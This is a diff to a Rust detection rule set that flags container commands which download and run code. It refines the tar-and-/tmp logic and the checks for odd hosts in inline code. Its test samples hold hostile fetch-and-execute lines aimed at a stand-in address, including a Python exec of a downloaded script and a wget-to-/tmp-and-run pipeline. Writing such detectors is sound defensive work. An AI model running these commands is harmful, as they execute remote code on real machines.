@@ -4,7 +4,7 @@ use super::url::{Reach, is_dotted, target};
 use super::words::{cluster, has, only_prints, operands, option, words};
 use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
 use crate::detect::findings::Collector;
-use crate::detect::{code, derive};
+use crate::detect::{code, code_strings, derive};
 use crate::normalize::exec::is_shell;
 use crate::normalize::{Execution, Invocation, RedirectOp};
 
@@ -69,6 +69,8 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(45, "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]"),
             Sample::Hit(45, "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]"),
             Sample::Hit(30, "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]"),
+            Sample::Hit(30, "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]"),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
             Sample::Miss("containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]"),
@@ -193,13 +195,22 @@ fn runs_its_input(invocation: &Invocation) -> bool {
 /// The first invocation that runs a file which a source wrote, and whether a checksum was verified in between.
 pub(super) fn runs_written_file(execution: &Execution, is_source: &impl Fn(&Invocation) -> bool) -> Option<(usize, bool)> {
     let mut files: Vec<&str> = Vec::new();
-    let mut verified = false;
+    let mut fetched = false;
+    let (mut verified, mut unpacked) = (false, false);
     for (at, invocation) in execution.commands.iter().enumerate() {
         if is_source(invocation) {
             files.extend(written_files(invocation));
+            fetched = true;
             // Bounds the work: a script with more downloads than this is hit by the first ones.
             files.truncate(64);
             continue;
+        }
+        if matches!(invocation.program.as_str(), "tar" | "bsdtar" | "unzip" | "7z" | "cpio") {
+            unpacked |= fetched;
+        }
+        // An archive has many files: one that is run from a directory for temporary files is likely of it.
+        if unpacked && is_temporary(&invocation.path) {
+            return Some((at, true));
         }
         if files.is_empty() {
             continue;
@@ -293,15 +304,20 @@ fn names_odd_host(invocation: &Invocation) -> bool {
     if only_prints(&invocation.program) {
         return false;
     }
+    if is_shell(&invocation.program) {
+        // Its script has commands of its own.
+        return false;
+    }
     let odd = |word: &str| {
-        target(word).is_some_and(|target| match target.reach() {
+        !word.contains(char::is_whitespace) && target(word).is_some_and(|target| match target.reach() {
             Reach::Drop => true,
             Reach::Address => is_dotted(target.host) || word.contains("://"),
             _ => false,
         })
     };
     let is_net = is_downloader(invocation) || super::shells::is_netcat(&invocation.program);
-    words(invocation).any(|word| (word.contains("://") || is_net && is_dotted_word(word)) && odd(word))
+    let in_code = || code::text(invocation).is_some_and(|code| code.contains("://") && code_strings::literals(code).iter().any(|text| text.contains("://") && odd(text)));
+    in_code() || words(invocation).any(|word| (word.contains("://") || is_net && is_dotted_word(word)) && odd(word))
         || invocation.redirects.iter().any(|redirect| redirect.target.text.strip_prefix("/dev/tcp/").is_some_and(odd))
 }
 
@@ -311,8 +327,11 @@ fn is_dotted_word(word: &str) -> bool {
 
 const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/dev/mqueue/"];
 
+fn is_temporary(path: &str) -> bool {
+    TEMPORARY.iter().any(|directory| path.starts_with(directory))
+}
+
 fn runs_temporary(invocation: &Invocation) -> bool {
-    let is_temporary = |path: &str| TEMPORARY.iter().any(|directory| path.starts_with(directory));
     let takes_script = is_shell(&invocation.program) || code::language(&invocation.program).is_some();
     is_temporary(&invocation.path)
         || takes_script && code::text(invocation).is_none() && operands(invocation).next().is_some_and(is_temporary)
